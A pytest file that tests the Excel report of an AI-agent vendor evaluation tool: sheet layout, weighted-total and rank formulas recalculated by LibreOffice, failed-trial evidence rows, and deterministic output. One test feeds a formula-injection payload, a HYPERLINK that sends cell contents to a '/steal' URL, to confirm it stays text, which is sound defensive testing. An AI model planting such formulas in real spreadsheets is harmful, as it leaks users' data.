"""report.xlsx, the sourcing team's workbook: its sheets, its live formulas recalculated by a
real spreadsheet engine (LibreOffice headless) after a weight is edited, its evidence rows
against the failed trials, and vendor text that must stay text."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from agentcheck.decision.model import (
    CriterionValue,
    Decision,
    GateResult,
    Interval,
    StageResult,
    VendorDecision,
)
from agentcheck.report.evidence import trial_evidence
from agentcheck.report.render import load_run
from agentcheck.report.xlsx import (
    SHEETS,
    default_matrix,
    plan_matrix,
    ranks,
    read_trials,
    totals,
    write_workbook,
)
from agentcheck.results.files import read_records

from ..helpers.report_fixtures import (
    VENDORS,
    make_records,
    rendered_no_verdict_run,
    rendered_run,
    write_run,
)

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_soffice = pytest.mark.skipif(
    SOFFICE is None, reason="LibreOffice (soffice) is not installed: Debian package "
                            "libreoffice-calc-nogui; .ci/run installs it")


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return rendered_run(tmp_path_factory.mktemp("xlsx") / "run")


def recalculated(book: Path, work: Path) -> openpyxl.Workbook:
    """The workbook opened, recalculated and saved again by LibreOffice, read back with the
    values it computed (openpyxl writes formulas without values: every value read back is
    LibreOffice's)."""
    assert SOFFICE is not None
    out = work / "recalculated"
    profile = work / "lo-profile"  # its own profile: never waits on another soffice's lock
    res = subprocess.run([SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless",
                          "--convert-to", "xlsx", "--outdir", str(out), str(book)],
                         capture_output=True, text=True, timeout=180)
    assert res.returncode == 0 and (out / book.name).exists(), res.stdout + res.stderr
    return openpyxl.load_workbook(out / book.name, data_only=True)


def matrix_rows(ws: Any) -> list[tuple[Any, ...]]:
    return [r for r in ws.iter_rows(min_row=8, values_only=True) if r[0] is not None]


def test_the_run_folder_holds_the_workbook_with_its_sheets(run_dir: Path) -> None:
    wb = openpyxl.load_workbook(run_dir / "report.xlsx")
    assert wb.sheetnames == list(SHEETS)
    assert wb["Decision matrix"].freeze_panes == "B8"
    assert wb["Vendor x scenario"].freeze_panes == "D2"
    assert wb["Evidence"].freeze_panes == "A2"
    # no plan: default criteria, equal weights, and the sheets say so
    assert wb["Decision matrix"]["A2"].value.startswith("No evaluation plan was given")
    assert wb["Gates"]["A1"].value.startswith("No evaluation plan was given")


def test_totals_and_ranks_are_live_formulas(run_dir: Path) -> None:
    ws = openpyxl.load_workbook(run_dir / "report.xlsx")["Decision matrix"]
    assert [c.value for c in ws[5][1:6]] == [1, 1, 1, 1, 1]  # editable numbers
    assert all(str(c.value).startswith("=IF(SUM($B$5:$F$5)>0,") for c in ws[6][1:6])
    rows = list(ws.iter_rows(min_row=8, max_row=7 + len(VENDORS)))
    assert [r[0].value for r in rows] == list(VENDORS)
    for i, r in enumerate(rows, start=8):
        assert r[6].value == f"=SUMPRODUCT($B$6:$F$6,B{i}:F{i})"
        assert r[7].value == f"=RANK(G{i},$G$8:$G${7 + len(VENDORS)},0)"
    rule = ws.data_validations.dataValidation[0]  # a spreadsheet refuses a negative weight
    assert (str(rule.sqref), rule.type, rule.operator, rule.formula1) == (
        "B5:F5", "decimal", "greaterThanOrEqual", "0")
    assert ws["J8"].number_format == "0%"  # completion rate
    assert ws["K8"].number_format.startswith('"$"')  # cost per completed task


@needs_soffice
def test_libreoffice_recalculates_edited_weights(run_dir: Path, tmp_path: Path) -> None:
    _, summary = load_run(run_dir)
    completed = read_trials(None, run_dir / "trials.jsonl").completed
    matrix = default_matrix(summary, completed)
    wb = openpyxl.load_workbook(run_dir / "report.xlsx")
    edits = {"as written": [1, 1, 1, 1, 1], "capability only": [1, 0, 0, 0, 0],
             "cost heavy": [0.5, 0, 4, 1, 0], "no weight": [0, 0, 0, 0, 0]}
    books = []
    for i, (_, weights) in enumerate(edits.items()):
        ws = wb["Decision matrix"]
        for col, w in zip("BCDEF", weights, strict=True):
            ws[f"{col}5"] = w
        books.append(tmp_path / f"edit{i}.xlsx")
        wb.save(books[-1])
    for book, (label, weights) in zip(books, edits.items(), strict=True):
        got = matrix_rows(recalculated(book, tmp_path)["Decision matrix"])
        want = totals(matrix, [float(w) for w in weights])
        assert [r[0] for r in got] == matrix.vendors, label
        assert [r[6] for r in got] == pytest.approx(want, abs=1e-6), label
        assert [r[7] for r in got] == ranks(want), label
    # the edits change the totals: a sheet that ignored its weights would fail above
    assert totals(matrix, [1, 0, 0, 0, 0]) != totals(matrix, [0.5, 0, 4, 1, 0])


def test_python_totals_and_ranks_follow_the_spreadsheet_rules() -> None:
    assert ranks([0.5, 0.9, 0.5, 0.1]) == [2, 1, 2, 4]  # RANK: ties share, the next skips
    records = make_records({"strong": 0.95, "idle": 0.0}, trials=2)
    for r in records:
        if r.vendor == "idle":  # completed nothing, in no time and for nothing
            r.duration_s = 0.01
            r.cost_usd = 0.0
    from agentcheck.judge.verdict import summarise

    names = ["strong", "idle"]
    m = default_matrix(summarise(records, names), read_trials(records, Path()).completed)
    by_key = {c.key: c for c in m.criteria}
    # a vendor that did nothing is neither the fastest nor the cheapest
    assert by_key["latency"].scores == [1.0, 0.0]
    assert by_key["cost"].scores == [1.0, 0.0]
    assert totals(m)[0] > totals(m)[1]


def test_no_verdict_vendors_are_never_ranked(tmp_path: Path) -> None:
    folder = tmp_path / "nv"
    rendered_no_verdict_run(folder)
    ws = openpyxl.load_workbook(folder / "report.xlsx")["Decision matrix"]
    assert [r[0] for r in matrix_rows(ws)] == ["steady"]
    assert ws["A4"].value.startswith("Left out (no verdict, never ranked): ")
    assert {"unreachable", "glitchy", "broken"} <= set(ws["A4"].value.split(": ")[1]
                                                       .split(", "))


def test_vendor_by_scenario_pass_rates(run_dir: Path) -> None:
    _, summary = load_run(run_dir)
    ws = openpyxl.load_workbook(run_dir / "report.xlsx")["Vendor x scenario"]
    header = [c.value for c in ws[1]]
    assert header[:3] == ["Scenario", "Scenario id", "Variant"] and header[3:] == list(VENDORS)
    cells = {(row[1], name): value for row in ws.iter_rows(min_row=2, values_only=True)
             for name, value in zip(header[3:], row[3:], strict=True)}
    want = {(s.scenario, v.name): s.pass_rate for v in summary.vendors for s in v.scenarios}
    assert cells == pytest.approx(want)
    assert ws["D2"].number_format == "0%"
    assert len(ws.conditional_formatting) == 1


def test_evidence_rows_are_the_failed_trials(run_dir: Path) -> None:
    records = read_records(run_dir / "trials.jsonl")
    failed = {(r.vendor, r.scenario, r.trial): r for r in records if not r.passed}
    ws = openpyxl.load_workbook(run_dir / "report.xlsx")["Evidence"]
    assert [c.value for c in ws[1]][:8] == ["Vendor", "Scenario", "Scenario id", "Trial",
                                           "Seed", "Ended", "Kind", "Reason"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(failed) > 10
    assert {(r[0], r[2], r[3]) for r in rows} == set(failed)
    for row in rows:  # the reason report.md and report.html give each failed trial
        record = failed[(row[0], row[2], row[3])]
        assert row[7] == trial_evidence(record).headline
        assert row[4] == str(record.seed)


def test_vendor_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    records = make_records({"acme": 0.0}, trials=1)
    evil = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"click")\x07\x00'
    for r in records:
        r.checks[0]["reason"] = evil
    folder = write_run(tmp_path / "evil", records, ["acme"], trials=1)
    run, summary = load_run(folder)
    book = write_workbook(folder / "report.xlsx", summary, run)
    ws = openpyxl.load_workbook(book)["Evidence"]
    reasons = [row[7] for row in ws.iter_rows(min_row=2)]
    assert reasons and all(c.data_type == "s" for c in reasons)
    assert all(c.value == evil.rstrip("\x07\x00") for c in reasons)  # XML cannot hold \x07


def test_the_same_run_gives_the_same_bytes(run_dir: Path, tmp_path: Path) -> None:
    """Re-rendering a (signed) run folder must leave its manifest true."""
    run, summary = load_run(run_dir)
    trials = run_dir / "trials.jsonl"
    a = write_workbook(tmp_path / "a.xlsx", summary, run, trials=trials).read_bytes()
    b = write_workbook(tmp_path / "b.xlsx", summary, run, trials=trials).read_bytes()
    assert a == b == (run_dir / "report.xlsx").read_bytes()


def test_records_given_or_streamed_give_the_same_evidence(run_dir: Path,
                                                          tmp_path: Path) -> None:
    run, summary = load_run(run_dir)
    records = read_records(run_dir / "trials.jsonl")
    given = write_workbook(tmp_path / "given.xlsx", summary, run, records)
    streamed = write_workbook(tmp_path / "streamed.xlsx", summary, run,
                              trials=run_dir / "trials.jsonl")

    def rows(path: Path) -> list[tuple[Any, ...]]:
        return list(openpyxl.load_workbook(path)["Evidence"].iter_rows(values_only=True))

    assert rows(given) == rows(streamed)


def _decision() -> Decision:
    def gate(vendor: str, value: float, verdict: str) -> GateResult:
        return GateResult(stage="capability", label="completion on noisy data >= 70%",
                          metric="completion", op=">=", target=0.7, value=value,
                          interval=Interval(lo=value - 0.1, hi=min(1.0, value + 0.1)), n=24,
                          verdict=verdict,  # type: ignore[arg-type]
                          reason="interval above the target" if verdict == "met" else
                          "interval straddles the target",
                          more_trials=None if verdict == "met" else 60)

    def vendor(name: str, value: float, verdict: str, scores: tuple[float, float],
               rank: int) -> VendorDecision:
        return VendorDecision(
            vendor=name, stages=[StageResult(name="capability", judged=True,
                                             passed=verdict == "met",
                                             gates=[gate(name, value, verdict)])],
            passed_all=verdict == "met",
            criteria=[CriterionValue(criterion="capability", weight=0.75, raw=100 * scores[0],
                                     score=scores[0], interval=Interval(lo=0.5, hi=1.0)),
                      CriterionValue(criterion="cost", weight=0.25, raw=0.12,
                                     score=scores[1], interval=Interval(lo=0.5, hi=1.0))],
            score=0.75 * scores[0] + 0.25 * scores[1], interval=Interval(lo=0.4, hi=0.9),
            rank=rank, tied_with_leader=False)

    return Decision(plan_name="support desk", plan_file="evaluation.yaml", plan_sha256="ab" * 32,
                    run_plan_sha256=None, weights=[("capability", 0.75), ("cost", 0.25)],
                    vendors=[vendor("acme", 0.9, "met", (0.9, 0.5), 1),
                             vendor("beta", 0.72, "cannot_tell", (0.6, 1.0), 2)],
                    candidates=["acme"], leader="acme", tied=[], sensitivity=[], notes=[],
                    bootstrap=1000, seed=1)


def test_under_a_plan_its_criteria_weights_and_gates(run_dir: Path, tmp_path: Path) -> None:
    run, summary = load_run(run_dir)
    decision = _decision()
    book = write_workbook(tmp_path / "plan.xlsx", summary, run, decision=decision)
    wb = openpyxl.load_workbook(book)
    ws = wb["Decision matrix"]
    assert "Evaluation plan 'support desk'" in ws["A2"].value
    assert [ws["B5"].value, ws["C5"].value] == [0.75, 0.25]
    assert ws["B7"].value == "Capability (mean trial score) (score 0-1)"
    rows = [r for r in ws.iter_rows(min_row=8, values_only=True) if r[0]]
    assert [(r[0], r[1], r[2], r[-2]) for r in rows] == [("acme", 0.9, 0.5, "yes"),
                                                         ("beta", 0.6, 1.0, "no")]
    assert [r[-1] for r in rows] == ["0.800 (0.400-0.900); leader", "0.700 (0.400-0.900)"]
    gates = list(wb["Gates"].iter_rows(values_only=True))
    assert gates[0][:9] == ("Vendor", "Stage", "Gate", "Metric", "Target", "Value", "95% low",
                            "95% high", "Verdict")
    assert [(g[0], g[4], g[5], g[8]) for g in gates[1:]] == [
        ("acme", ">= 70%", 0.9, "met"), ("beta", ">= 70%", 0.72, "cannot tell yet")]
    assert wb["Gates"]["F2"].number_format == "0%"
    m = plan_matrix(decision)
    assert totals(m) == pytest.approx([v.score for v in decision.vendors])


@needs_soffice
def test_libreoffice_recalculates_a_plan_workbook(run_dir: Path, tmp_path: Path) -> None:
    run, summary = load_run(run_dir)
    decision = _decision()
    book = write_workbook(tmp_path / "plan.xlsx", summary, run, decision=decision)
    wb = openpyxl.load_workbook(book)
    wb["Decision matrix"]["B5"] = 0.1  # the team cares about cost now: beta overtakes acme
    wb.save(book)
    got = matrix_rows(recalculated(book, tmp_path)["Decision matrix"])
    want = totals(plan_matrix(decision), [0.1, 0.25])
    assert [r[3] for r in got] == pytest.approx(want)
    assert [r[4] for r in got] == ranks(want) == [2, 1]



PLAN = """name: support desk
vendors: [demo-agent, demo-chatbot, demo-rpa]
scenarios:
  paths: [{paths}]
trials: 4
seed: 11
stages:
  - name: capability
    gates:
      - {{metric: tier, at_least: 2}}
      - {{metric: completion, at_least: 0.5}}
  - name: process fit
    gates:
      - {{metric: cost_per_completed_task_usd, at_most: 0.40}}
weights: {{capability: 3, cost: 1, latency: 1, dimensions: {{honesty: 1}}}}
"""


@pytest.fixture(scope="module")
def plan_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real `run --plan` of the demo vendors: the workbook as a buyer gets it."""
    from ..helpers.cli import agentcheck
    from ..helpers.paths import ROOT

    tmp = tmp_path_factory.mktemp("plan-xlsx")
    paths = ", ".join(str(ROOT / "scenarios" / s) for s in (
        "customer-service/refund-damaged-order.yaml", "hr-onboarding/onboard-new-hire.yaml",
        "it-helpdesk/escalate-site-outage-ticket.yaml"))
    (tmp / "plan.yaml").write_text(PLAN.format(paths=paths))
    res = agentcheck("run", "--plan", str(tmp / "plan.yaml"), "--out", str(tmp / "run"),
                     "--quiet")
    assert res.returncode in (0, 3), res.stderr
    return tmp / "run"


def test_a_plan_run_writes_its_gates_and_criteria(plan_run: Path) -> None:
    from agentcheck.cli.plan import decision_for_report

    decision = decision_for_report(plan_run, None)
    assert decision is not None
    wb = openpyxl.load_workbook(plan_run / "report.xlsx")
    gates = [r for r in wb["Gates"].iter_rows(min_row=2, values_only=True)]
    want = [(v.vendor, s.name, g.label, g.verdict) for v in decision.vendors
            for s in v.stages for g in s.gates]
    assert [(r[0], r[1], r[2], r[8]) for r in gates] == [
        (v, s, label, {"met": "met", "not_met": "not met", "cannot_tell": "cannot tell yet"}[x])
        for v, s, label, x in want]
    assert len(gates) == 3 * 3
    ws = wb["Decision matrix"]
    weights = [ws.cell(5, 2 + j).value for j in range(len(decision.weights))]
    assert weights == pytest.approx([w for _, w in decision.weights], abs=1e-6)
    rows = matrix_rows(ws)
    assert [r[0] for r in rows] == [v.vendor for v in decision.vendors]
    for r, v in zip(rows, decision.vendors, strict=True):
        assert list(r[1:1 + len(v.criteria)]) == pytest.approx([c.score for c in v.criteria])
        assert r[-2] == ("yes" if v.passed_all else "no")
        assert r[-1].startswith(f"{v.score:.3f} (")


@needs_soffice
def test_libreoffice_totals_are_the_decisions_scores(plan_run: Path, tmp_path: Path) -> None:
    """Recalculated as written, the sheet's totals are the decision's scores, and its ranks
    the decision's (RANK gives equal totals one rank where the decision orders them by the
    run's vendor order)."""
    from agentcheck.cli.plan import decision_for_report

    decision = decision_for_report(plan_run, None)
    assert decision is not None
    k = len(decision.weights)
    got = matrix_rows(recalculated(plan_run / "report.xlsx", tmp_path)["Decision matrix"])
    assert [r[1 + k] for r in got] == pytest.approx([v.score for v in decision.vendors],
                                                    abs=1e-5)
    scores = [v.score for v in decision.vendors]
    assert [r[2 + k] for r in got] == ranks(scores)
    for r, v in zip(got, decision.vendors, strict=True):
        if scores.count(v.score) == 1:
            assert r[2 + k] == v.rank


def test_a_trial_run_again_counts_once(tmp_path: Path) -> None:
    """trials.jsonl holds a re-run trial twice (resume appends): its last line wins in the
    Evidence sheet as everywhere, also when the reports' one pass over the file starts over."""
    from agentcheck.report.render import render_run
    from agentcheck.results.files import record_line

    records = make_records({"acme": 0.5}, trials=3, seed=3)
    failed = [r for r in records if not r.passed]
    assert len(failed) >= 2
    folder = write_run(tmp_path / "rerun", records, ["acme"])
    again = [r.model_copy(update={"passed": True, "score": 1.0}) for r in failed[:1]]
    with (folder / "trials.jsonl").open("a", encoding="utf-8") as fh:
        for r in [*again, failed[1]]:  # one now passes; one failed twice
            fh.write(record_line(r) + "\n")
    render_run(folder)
    rows = list(openpyxl.load_workbook(folder / "report.xlsx")["Evidence"]
                .iter_rows(min_row=2, values_only=True))
    keys = [(r[0], r[2], r[3]) for r in rows]
    assert len(keys) == len(set(keys)) == len(failed) - 1
    assert (failed[0].vendor, failed[0].scenario, failed[0].trial) not in keys


def test_the_reports_one_pass_counts_a_rerun_trial_once(tmp_path: Path) -> None:
    """The pass the workbook shares with the other reports starts over when a trial was run
    again; every sink starts over with it (the second reader's tally used to count the
    trials read before the restart twice: 32 'not read' of 16 trials)."""
    from agentcheck.report.render import render_run
    from agentcheck.results.files import record_line
    from agentcheck.results.records import SecondReading

    records = make_records({"acme": 0.5}, trials=2)
    for r in records:
        r.second_reader = SecondReading(status="error", reason="judge down", profile="j",
                                        model="m", prompt="speech_acts_v2",
                                        prompt_sha256="0" * 64)
    folder = write_run(tmp_path / "rerun", records, ["acme"], trials=2)
    with (folder / "trials.jsonl").open("a", encoding="utf-8") as fh:
        fh.write(record_line(records[3]) + "\n")  # trial run again: its last line wins
    render_run(folder)
    md = (folder / "report.md").read_text()
    assert f"- {len(records)} trial(s) not read: judge down" in md
